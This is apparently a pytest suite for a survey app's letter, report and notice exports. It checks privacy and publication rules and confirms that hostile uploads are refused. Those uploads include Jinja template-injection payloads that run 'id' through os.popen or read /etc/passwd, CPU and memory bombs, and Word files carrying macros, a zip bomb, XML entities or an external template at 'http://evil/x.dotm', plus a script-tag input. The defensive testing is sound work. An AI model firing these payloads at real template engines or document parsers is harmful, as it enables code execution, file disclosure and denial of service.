"""Letters, report and notice: what was published and confirmed and no more, in the office's template or ours; none hostile.

Figures are those of `two_towns`: EH 57.33, WH 86.67; EH's flag "调整岗位" is raised.
"""

from __future__ import annotations

import io
import re
import time
import zipfile

import docx
import pytest
from flask import Flask
from flask.testing import FlaskClient

from survey_app.exports import word
from survey_app.extensions import resources
from survey_app.models import Campaign, PaperTemplate, Subject
from survey_app.services.publishing import letter_making
from tests.support.application import OTHER_NAME, csrf
from tests.support.pdf_reading import text_of
from tests.support.publishing import confirm_everything, publish
from tests.towns import two_towns

pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
PATIENCE = 60


@pytest.fixture
def key(app: Flask) -> str:
    """The two towns, counted, everything confirmed and published."""
    with resources(app).writing() as session:
        campaign = two_towns.build(session)
        confirm_everything(session, campaign)
        publish(session, campaign)
        return campaign.key


def words_of(content: bytes) -> str:
    """Every text of a Word file."""
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


def written(*texts: str) -> bytes:
    """A Word file with these paragraphs."""
    document, target = docx.Document(), io.BytesIO()
    for text in texts:
        document.add_paragraph(text)
    document.save(target)
    return target.getvalue()


def bring(client: FlaskClient, key: str, content: bytes, **fields: str) -> tuple[int, str]:
    answer = client.post(
        f"/office/results/{key}/letters/templates/letter",
        data={"csrf_token": csrf(client), "file": (io.BytesIO(content), "own.docx"), **fields},
        content_type="multipart/form-data",
    )
    return answer.status_code, answer.get_data(as_text=True)


def test_a_letter_holds_that_persons_figures_and_nobody_elses_in_word_and_pdf(office_client: FlaskClient, key: str) -> None:
    base = f"/office/results/{key}/letters"
    for text in (words_of(office_client.get(f"{base}/EH.docx").data), text_of(office_client.get(f"{base}/EH.pdf").data)):
        assert "东镇镇长" in text
        assert "57.33" in text
        assert "调整岗位" in text
        assert "西镇" not in text
        assert "86.67" not in text
        assert "1/3" not in text  # why an outcome came about may tell of others
    assert office_client.get(f"{base}/NOBODY.pdf").status_code == 404


def test_before_publication_there_is_no_letter_and_no_notice_and_the_page_says_so(app: Flask, office_client: FlaskClient) -> None:
    with resources(app).writing() as session:
        key = two_towns.build(session).key
    assert "还没有公布" in office_client.get(f"/office/results/{key}/letters/").get_data(as_text=True)
    for page in ("letters/EH.docx", "letters/EH.pdf", "posting/notice.pdf"):
        assert office_client.get(f"/office/results/{key}/{page}").status_code == 409
    answer = office_client.post(f"/office/results/{key}/letters/", data={"kind": "pdf", "csrf_token": csrf(office_client)})
    assert answer.status_code == 409


def test_an_outcome_nobody_confirmed_stands_in_no_letter_and_every_outcome_in_the_offices_report(
    app: Flask, office_client: FlaskClient
) -> None:
    with resources(app).writing() as session:
        campaign = two_towns.build(session)
        publish(session, campaign)
        key = campaign.key
    assert "调整岗位" not in words_of(office_client.get(f"/office/results/{key}/letters/EH.docx").data)
    for kind, read in (("docx", words_of), ("pdf", text_of)):
        text = read(office_client.get(f"/office/results/{key}/files/report.{kind}").data)
        assert "调整岗位（待确认）" in text
        assert {"57.33", "86.67", "80.00"} <= set(re.findall(r"\d+\.\d+", text))


def test_all_letters_are_written_beside_the_page_taken_once_and_then_gone(
    app: Flask, office_client: FlaskClient, key: str
) -> None:
    base = f"/office/results/{key}/letters/"
    for kind in ("docx", "pdf"):
        assert office_client.post(base, data={"kind": kind, "csrf_token": csrf(office_client)}).status_code == 302
        until = time.monotonic() + PATIENCE
        while "信写好了" not in (page := office_client.get(base).get_data(as_text=True)):
            assert time.monotonic() < until, page
            time.sleep(0.2)
        file = letter_making.LettersNotes(resources(app).config.data / "letters", key).file
        assert file.stat().st_mode & 0o077 == 0
        content = office_client.post(base + "take", data={"csrf_token": csrf(office_client)}).data
        assert not file.exists()
        assert office_client.post(base + "take", data={"csrf_token": csrf(office_client)}).status_code == 409
        if kind == "pdf":
            assert {"57.33", "86.67"} <= set(re.findall(r"\d+\.\d+", text_of(content)))
            continue
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            texts = {name: words_of(archive.read(name)) for name in archive.namelist()}
        assert len(texts) == 4
        assert [name for name, text in texts.items() if "57.33" in text] == ["0002-EH-东镇镇长-东镇.docx"]


def test_letters_that_were_stopped_midway_are_told_and_leave_no_file(app: Flask, office_client: FlaskClient, key: str) -> None:
    notes = letter_making.LettersNotes(resources(app).config.data / "letters", key)
    notes.write(letter_making.LettersNote(account="评议办", kind="docx", process=1, born="long ago", done=1, whole=4))
    assert "中途停了" in office_client.get(f"/office/results/{key}/letters/").get_data(as_text=True)
    assert not notes.file.exists()


def test_the_offices_own_template_is_filled_from_then_on_until_it_is_taken_back(
    app: Flask, office_client: FlaskClient, key: str
) -> None:
    own = written("{{ 姓名 }}同志：", "{% for 行 in 得分 %}{{ 行.名称 }}为{{ 行.数 }}。{% endfor %}")
    assert bring(office_client, key, own)[0] == 302
    letter = words_of(office_client.get(f"/office/results/{key}/letters/EH.docx").data)
    assert letter.startswith("东镇镇长同志：")
    assert "民主得分为57.33。" in letter
    assert office_client.get(f"/office/results/{key}/letters/templates/letter.docx").data == own
    back = office_client.post(f"/office/results/{key}/letters/templates/letter/ours", data={"csrf_token": csrf(office_client)})
    assert back.status_code == 302
    with resources(app).reading() as session:
        assert session.query(PaperTemplate).count() == 0


def test_a_template_that_somebody_else_changed_meanwhile_stays_and_is_told(
    office_client: FlaskClient, other_client: FlaskClient, key: str
) -> None:
    page = office_client.get(f"/office/results/{key}/letters/").get_data(as_text=True)
    found = re.search(r'name="seen_act" value="([^"]*)"', page)
    assert found
    assert bring(other_client, key, written("{{ 姓名 }}先生"))[0] == 302
    status, told = bring(office_client, key, written("{{ 姓名 }}同志"), seen_act=found[1])
    assert (status, OTHER_NAME in told) == (409, True)
    assert "先生" in words_of(office_client.get(f"/office/results/{key}/letters/EH.docx").data)


def test_unknown_fields_are_refused_all_at_once_by_name(office_client: FlaskClient, key: str) -> None:
    status, page = bring(
        office_client, key, written("{{ 姓名 }}{{ 工资 }}{{ 身份证 }}{% for 行 in 得分 %}{{ 行.谁投的 }}{% endfor %}")
    )
    assert status == 400
    assert all(name in page for name in ("工资", "身份证", "行.谁投的"))
    assert "东镇镇长" in words_of(office_client.get(f"/office/results/{key}/letters/EH.docx").data)  # ours is still used


HOSTILE = {
    "reads the program": "{{ 姓名.__class__.__base__.__subclasses__() }}",
    "reads globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "reads a file": "{% include '/etc/passwd' %}",
    "never ends": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "eats memory": "{{ 'a' * 10 ** 10 }}",
    "is cut off": "{{ 姓名",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_template_is_refused_with_a_sentence_and_does_nothing(
    office_client: FlaskClient, key: str, text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(word, "SECONDS", 3)  # enough for a template that ends
    status, page = bring(office_client, key, written(text))
    assert (status, "模板" in page or "Word 文档" in page) == (400, True)


def packed(**parts: bytes) -> bytes:
    """A Word file with further parts in it, or others in place of its own."""
    target, added = io.BytesIO(), {name.replace("__", "/").replace("_x", "."): content for name, content in parts.items()}
    with zipfile.ZipFile(io.BytesIO(written("{{ 姓名 }}"))) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, content in added.items():
            new.writestr(name, content)
    return target.getvalue()


OUTSIDE = (
    b'<Relationships><Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04 nonsense",
        b"x" * 200_001,
        packed(word__vbaProject_xbin=b"macro"),
        packed(word__embeddings__a_xbin=b"object"),
        packed(word__big_xxml=b"0" * (21 * 1024 * 1024)),
        packed(word__document_xxml=b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>'),
        packed(word___rels__settings_xxml_xrels=OUTSIDE),
    ],
    ids=["empty", "no archive", "too large", "macros", "an object", "a bomb", "entities", "a template elsewhere"],
)
def test_a_file_that_is_no_plain_word_document_is_refused(
    office_client: FlaskClient, key: str, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(word, "MOST_BYTES", 200_000)
    status, page = bring(office_client, key, content)
    assert (status, "东镇" in page) == (400, True)  # the page, with its people, and the sentence on it


def test_a_name_that_looks_like_a_template_or_markup_stands_in_the_letter_as_it_is(
    app: Flask, office_client: FlaskClient, key: str
) -> None:
    hostile = "{{ 编号 }}<w:br/>&#strong[x]$y$"
    with resources(app).writing() as session:
        session.query(Subject).filter_by(code="EH").one().name = hostile
        session.commit()
    assert hostile in words_of(office_client.get(f"/office/results/{key}/letters/EH.docx").data)
    assert hostile in text_of(office_client.get(f"/office/results/{key}/letters/EH.pdf").data).replace("\n", "")


def test_the_notice_names_what_was_chosen_and_says_until_when_and_what_one_may_do(office_client: FlaskClient, key: str) -> None:
    base = f"/office/results/{key}/posting/"
    asked = "?column=民主得分&from=2026-12-01&until=2026-12-07&contact=县政府 101 室"
    page = office_client.get(base + asked).get_data(as_text=True)
    sheet = text_of(office_client.get(base + "notice.pdf" + asked).data)
    for text in (page, sheet):
        assert "57.33" in text
        assert "86.67" in text
        assert "2026-12-01 至 2026-12-07" in text
        assert "县政府 101 室" in text
        assert "异议" in text
    assert "80.00" not in sheet  # the satisfaction index was not chosen
    nonsense = office_client.get(base + "?column=没有这个&from=昨天&until=<script>")
    assert nonsense.status_code == 200
    assert "<script>" not in nonsense.get_data(as_text=True).partition("<main")[2].partition("</main>")[0]


def test_a_notice_names_nobody_whose_figure_is_held_back(app: Flask, office_client: FlaskClient) -> None:
    with resources(app).writing() as session:
        campaign = two_towns.build(session, open_to_all=False)
        publish(session, campaign)
        key = campaign.key
    sheet = text_of(office_client.get(f"/office/results/{key}/posting/notice.pdf?column=民主得分").data)
    assert "58±1" in sheet
    assert "172/3" not in sheet
    assert "不列：会露出少数人的答案" in sheet


def test_an_unknown_kind_of_letter_or_template_is_refused(office_client: FlaskClient, key: str) -> None:
    base = f"/office/results/{key}/letters/"
    token = csrf(office_client)
    assert office_client.post(base, data={"kind": "exe", "csrf_token": token}).status_code == 400
    assert office_client.get(base + "templates/invoice.docx").status_code == 404
    assert office_client.post(base + "templates/letter", data={"csrf_token": csrf(office_client)}).status_code == 400


def test_letters_of_a_round_that_is_not_counted_are_refused(app: Flask, office_client: FlaskClient) -> None:
    with resources(app).writing() as session:
        campaign: Campaign = two_towns.build(session, count=False)
        session.commit()
        key = campaign.key
    assert office_client.get(f"/office/results/{key}/letters/").status_code == 200
    assert office_client.get(f"/office/results/{key}/letters/EH.pdf").status_code == 409
